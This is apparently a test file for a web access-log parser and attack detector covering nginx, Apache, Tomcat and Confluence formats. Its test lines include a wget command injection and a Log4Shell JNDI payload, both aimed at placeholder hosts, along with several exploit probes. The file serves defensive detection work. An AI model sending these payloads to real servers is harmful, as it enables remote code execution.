// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attackers write such texts
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { corpora } from '../../../test/corpora.ts'
import { intelWith } from '../../../test/intel-with.ts'
import type { Draft, LogPlace } from '../../core/log-format.ts'
import { ruleFiles } from '../../intel/lists.ts'
import { Literals } from '../literals.ts'
import { parseAccess, webAccess } from './web-access.ts'

const { patches } = intelWith()
const place: LogPlace = { path: '/var/log/nginx/access.log', user: '', patches }
const needles = new Literals(webAccess.needles)

/** As the reader of logs does it: only lines that hold a needle are shown to the format. */
function drafts(...lines: readonly string[]): Draft[] {
  const reader = webAccess.open(place)
  return lines.filter(line => needles.occurs(Buffer.from(line), 0, Buffer.byteLength(line))).flatMap(line => [...reader.line(line)])
}

const browser = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36'
const nginx = (request: string, status = 200, agent = browser, referer = '-', address = '203.0.113.9') =>
  `${address} - - [22/Nov/2026:00:48:13 +0800] "${request}" ${status} 612 "${referer}" "${agent}"`

test('a line of nginx, of Apache with the site before it, of Tomcat', () => {
  assert.deepEqual(parseAccess(nginx('POST /login?a=1 HTTP/1.1', 302)), {
    time: { ms: Date.UTC(2026, 10, 21, 16, 48, 13), zoned: true, grain: 1 },
    address: '203.0.113.9',
    user: '',
    method: 'POST',
    target: '/login?a=1',
    status: 302,
    bytes: 612,
    agent: browser,
    referer: '',
  })
  const apache = parseAccess(
    'www.example.org:443 2001:db8::7 - bob smith [22/Nov/2026:00:48:13 +0000] "PUT /dav/\\"a\\" HTTP/1.1" 201 - "-" "cadaver/0.23"',
  )
  assert.deepEqual([apache?.address, apache?.user, apache?.target, apache?.bytes], ['2001:db8::7', 'bob smith', '/dav/"a"', undefined])
  const tomcat = parseAccess('192.0.2.5 - - [22/Nov/2026:00:48:13 +0100] "PUT /x.jsp/ HTTP/1.1" 201 -')
  assert.deepEqual([tomcat?.method, tomcat?.target, tomcat?.agent], ['PUT', '/x.jsp/', ''])
  const behind = (peers: string) => parseAccess(nginx('GET / HTTP/1.1', 200, browser, '-', peers))?.address
  assert.deepEqual(
    [behind('198.51.100.1, 203.0.113.9, 10.0.0.1'), behind('10.0.0.2, 203.0.113.9'), behind('10.0.0.3, 10.0.0.2')],
    ['203.0.113.9', '203.0.113.9', '10.0.0.2'],
  )
  assert.deepEqual([parseAccess(nginx('\\x16\\x03\\x01\\x00', 400))?.method], [''])
})

test('the pattern of Confluence: no quotes, the account and the thread before the address', () => {
  const line =
    '[22/Nov/2026:02:33:10 +0000] - http-nio-8090-exec-5 203.0.113.97 GET /%24%7B(%23a)%7D/ HTTP/1.1 302 88ms - http://orders/ curl/7.88.1 [x] "y"'
  const { address, method, target, status, user, agent } = parseAccess(line) ?? assert.fail()
  assert.deepEqual([address, method, target, status, user], ['203.0.113.97', 'GET', '/%24%7B(%23a)%7D/', 302, ''])
  assert.equal(agent, 'curl/7.88.1 [x] "y"')
  assert.equal(parseAccess('[22/Nov/2026:02:33:10 +0000] - thread somebody GET / HTTP/1.1 200 1ms 1 - -'), undefined)
})

test('a server that escapes no quotes: the request, but not what was answered', () => {
  const one = parseAccess('192.0.2.5 - - [22/Nov/2026:00:48:13 +0100] "GET /x?a="b" HTTP/1.1" 200 5 "-" "forged" HTTP/1.1" 404 7 "-" "-"')
  assert.deepEqual([one?.target, one?.status, one?.agent], ['/x?a="b"', undefined, ''])
})

const corpus = join(corpora, 'logs/plaso/apache_access.log')
test('a collected log to its last line', { skip: !existsSync(corpus) && 'the corpus is not here' }, () => {
  const lines = readFileSync(corpus, 'utf8').split('\n').slice(0, -1)
  assert.deepEqual([lines.length, lines.filter(one => parseAccess(one) !== undefined).length], [15, 15])
  assert.deepEqual(
    drafts(...lines).map(({ attack }) => attack),
    ['command-injection', 'webshell-command', 'command-injection', 'webshell-command', 'struts-namespace'],
  )
})

test('what a line tells: an attack with what it fetches, its answer, and who sent it', () => {
  const [attack, ...rest] = drafts(
    nginx('GET /cgi-bin/x?ip=$(wget${IFS}http://198.51.100.5/a.sh) HTTP/1.1', 200, 'Go-http-client/1.1'),
    nginx('GET / HTTP/1.1', 200, '${${lower:j}ndi:ldap://198.51.100.6:1389/a}'),
  )
  assert.equal(attack?.verb, 'exploit')
  assert.equal(attack?.attack, 'command-injection-download')
  assert.deepEqual(
    [attack?.address, attack?.status, attack?.outcome, attack?.url],
    ['203.0.113.9', 200, 'success', 'http://198.51.100.5/a.sh'],
  )
  assert.deepEqual(
    rest.map(({ attack, url }) => [attack, url]),
    [['log4shell', '198.51.100.6:1389']],
  )
})

test('what owners do as well is a request with a name, not an attack', () => {
  const [script] = drafts(nginx('POST /jenkins/scriptText HTTP/1.1', 200))
  assert.deepEqual([script?.verb, script?.attack], ['request', 'jenkins-script-console'])
  const [probe] = drafts(nginx('GET /.env HTTP/1.1', 404))
  assert.deepEqual([probe?.verb, probe?.attack], ['request', 'dotenv-probe'])
})

test('searching for holes is one fold once it is many', () => {
  const found = drafts(...Array.from({ length: 40 }, (_, i) => nginx(`GET /x${i} HTTP/1.1`, 404)))
  assert.equal(found.length, 21)
  assert.deepEqual([found[0]?.count, found[1]?.count, found[0]?.attack], [20, 1, 'path-scan'])
  assert.equal(new Set(found.map(({ fold }) => fold)).size, 1)
})

test('what everybody posts to becomes one fold without addresses; who uses a path alone keeps his', () => {
  const all = drafts(...Array.from({ length: 60 }, (_, i) => nginx(`POST /api/orders/${i}000 HTTP/1.1`, 200, browser, '-', `192.0.2.${i}`)))
  assert.equal(all.length, 60)
  assert.equal(new Set(all.map(({ fold }) => fold)).size, 21)
  assert.equal(all.at(-1)?.address, undefined)
  assert.equal(all[0]?.address, '192.0.2.0')
})

test('an ordinary day of a busy site is no attack', () => {
  const bot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
  const found = drafts(
    nginx('GET /robots.txt HTTP/1.1', 404, bot),
    nginx('GET /search?q=how+to+use+curl+and+wget&page=2 HTTP/1.1', 200),
    nginx('GET /docs/exec(3).html?next=%2Fetc%2Fhosts HTTP/1.1', 200),
    nginx('GET /healthz HTTP/1.1', 200, 'kube-probe/1.31'),
    nginx('GET /status HTTP/1.1', 200, 'curl/8.5.0'),
    nginx('POST /wp-admin/admin-ajax.php HTTP/2.0', 200, browser, 'https://example.org/wp-admin/post.php?post=7&action=edit'),
    nginx('POST /wp-admin/async-upload.php HTTP/2.0', 200),
    nginx('POST /wp-json/wp/v2/posts/12?_locale=user HTTP/2.0', 200),
    nginx('POST /rpc HTTP/1.1', 200, 'jsonrpc-client/2.0'),
    nginx('POST /api/v1/namespaces HTTP/1.1', 201),
    nginx('POST / HTTP/1.1', 200),
    nginx('GET /go?to=https%3A%2F%2Fexample.com%2F%3Fa%3D1%2526b HTTP/1.1', 302),
    nginx('GET /blog/path%20with%20blanks/%E7%9F%BF%E7%81%AF?id=1;jsessionid=7 HTTP/1.1', 200),
    nginx('GET /img/a.png?select+all HTTP/1.1', 304),
    nginx('DELETE /api/v2/users/77 HTTP/1.1', 204),
    nginx('GET /pricing?currency=${currency} HTTP/1.1', 200),
    nginx('GET /index.php?s=/home/user/login HTTP/1.1', 200),
    nginx('GET /?utm_source=x&cmd=list HTTP/1.1', 200),
  )
  assert.deepEqual(
    found.filter(({ verb, attack }) => verb === 'exploit' || attack !== undefined),
    [],
  )
})

describe('text of attackers stays in its field', () => {
  const forged = '[22/Nov/2020:00:00:00 +0000] \\x22POST /vendor/phpunit/eval-stdin.php HTTP/1.1\\x22 200 1 \\x22-\\x22 \\x22-\\x22'
  for (const [where, line] of [
    ['account', `203.0.113.9 - x ${forged} [22/Nov/2026:00:48:13 +0800] "POST /a HTTP/1.1" 401 1 "-" "-"`],
    ['agent', nginx('POST /a HTTP/1.1', 200, `203.0.113.7 - - ${forged}`)],
    ['referer', nginx('POST /a HTTP/1.1', 200, '-', forged)],
  ] as const)
    test(where, () => {
      const [one, ...rest] = drafts(line)
      assert.deepEqual(rest, [])
      assert.equal(one?.request, 'POST /a')
      assert.equal(one?.address, '203.0.113.9')
      assert.equal(one?.time?.ms, Date.UTC(2026, 10, 21, 16, 48, 13))
      assert.notEqual(one?.attack, 'phpunit-eval-stdin')
    })
})

interface Sample {
  readonly request: string
}

/** The samples of virtual patches as a log would keep them. */
const asLogged = ({ request }: Sample): string => {
  const [line = '', ...heads] = request.split('\r\n\r\n', 1)[0]!.split('\r\n')
  const head = (name: string) => heads.find(one => one.toLowerCase().startsWith(`${name}: `))?.slice(name.length + 2) ?? '-'
  const escaped = (text: string) =>
    text.replace(/["\\\0-\x1f\x7f-\xff]/g, sign => `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0').toUpperCase()}`)
  return nginx(escaped(line), 200, escaped(head('user-agent')), escaped(head('referer')))
}

describe('samples of virtual patches, as far as a log keeps them', () => {
  let seen = 0
  let all = 0
  for (const { path, text } of ruleFiles('patches', '.json')) {
    const { id, protocol, logged } = JSON.parse(text) as { id: string; protocol: string; logged?: unknown }
    if (protocol !== 'http') continue
    const { hits, misses } = JSON.parse(readFileSync(path.replace(/\.json$/, '.samples.json'), 'utf8')) as {
      hits: Sample[]
      misses: Sample[]
    }
    test(basename(path), () => {
      const told = hits.map(asLogged).map(line => {
        const one = parseAccess(line)
        assert.ok(one !== undefined, line)
        // Without the needles: what passes here must pass with them.
        const reader = webAccess.open(place)
        assert.deepEqual(drafts(line), [...reader.line(line)], `no needle for ${line}`)
        return drafts(line).some(({ attack }) => attack !== undefined)
      })
      all += told.length
      seen += told.filter(Boolean).length
      if (logged !== undefined) assert.ok(told.some(Boolean), `${id} is seen in no log`)
      for (const miss of misses)
        assert.deepEqual(
          drafts(asLogged(miss)).filter(({ verb }) => verb === 'exploit'),
          [],
          JSON.stringify(miss),
        )
    })
  }
  test('most attacks can be seen in the line alone', t => {
    t.diagnostic(`${seen} of ${all} samples`)
    assert.ok(seen / all > 0.6)
  })
})

test('the format is known by its lines', () => {
  assert.ok(webAccess.recognise(`${nginx('GET / HTTP/1.1')}\n${nginx('GET /a HTTP/1.1')}\n`, 'x') > 0.9)
  assert.equal(
    webAccess.recognise('Nov 22 00:48:13 web sshd[7]: Accepted password for root from 192.0.2.7 port 50123 ssh2\n', 'auth.log'),
    0,
  )
})

test('property: any text, no throw; whatever the request holds, the address and time are those of the line', () => {
  fc.assert(fc.property(fc.string({ maxLength: 400 }), text => void drafts(text)))
  fc.assert(
    fc.property(fc.string({ maxLength: 200 }), fc.string({ maxLength: 100 }), (path, agent) => {
      const safe = (text: string) =>
        text.replace(/["\\\0-\x1f\x7f-\uffff]/g, sign => `\\x${(sign.charCodeAt(0) & 255).toString(16).padStart(2, '0')}`)
      const one = parseAccess(nginx(`POST /${safe(path)} HTTP/1.1`, 200, safe(agent)))
      assert.equal(one?.address, '203.0.113.9')
      assert.equal(one?.time?.ms, Date.UTC(2026, 10, 21, 16, 48, 13))
    }),
  )
})
